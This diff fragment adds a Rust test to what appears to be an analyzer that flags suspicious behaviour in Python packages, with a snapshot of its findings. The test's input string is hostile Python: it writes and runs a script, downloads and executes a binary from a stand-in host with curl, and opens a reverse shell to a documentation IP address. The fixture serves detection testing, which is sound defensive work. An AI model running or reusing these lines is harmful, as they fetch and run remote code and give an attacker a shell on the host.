@@ -521,6 +521,27 @@ fn an_archive_that_is_fetched_and_unpacked_is_run() {
     assert_eq!(record.arguments, ["$APPDATA/run.bat"]);
 }
 
+#[test]
+fn what_is_written_out_and_run_is_read() {
+    let analysis = one(
+        "import os, sys, subprocess, socket\np = os.path.join(os.getenv('APPDATA'), 'g.py')\nwith open(p, 'w') as f:\n    \
+         f.write('import os\\nos.system(\\'id\\')\\n')\nsubprocess.Popen([sys.executable, p])\n\
+         subprocess.run(['curl', 'https://drop.example/x', '-o', '/tmp/xx.bin'])\nsubprocess.call(['/tmp/xx.bin'])\n\
+         s = socket.socket()\ns.connect(('203.0.113.7', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
+    );
+    insta::assert_snapshot!(lines(&analysis), @r#"
+    process pkg/__init__.py subprocess.Popen([sys.executable, $APPDATA/g.py]) <-  [Import 0]
+    write-then-run pkg/__init__.py subprocess.Popen([sys.executable, $APPDATA/g.py]) <-  [Import 0]
+    process pkg/__init__.py subprocess.run([curl, https://drop.example/x, -o, /tmp/xx.bin]) <-  [Import 0]
+    process pkg/__init__.py subprocess.call([/tmp/xx.bin]) <-  [Import 0]
+    write-then-run pkg/__init__.py subprocess.call([/tmp/xx.bin]) <- network [Import 0]
+    network-send pkg/__init__.py socket.socket().connect([203.0.113.7, 4444]) <-  [Import 0]
+    process pkg/__init__.py os.dup2(socket.socket().fileno(), 0) <- network [Import 0]
+    process pkg/__init__.py subprocess.call([/bin/sh, -i]) <-  [Import 0]
+    process pkg/__init__.py os.system(id) <-  [Import 1]
+    "#);
+}
+
 mod never_panics {
     use super::one;
     use proptest::prelude::*;
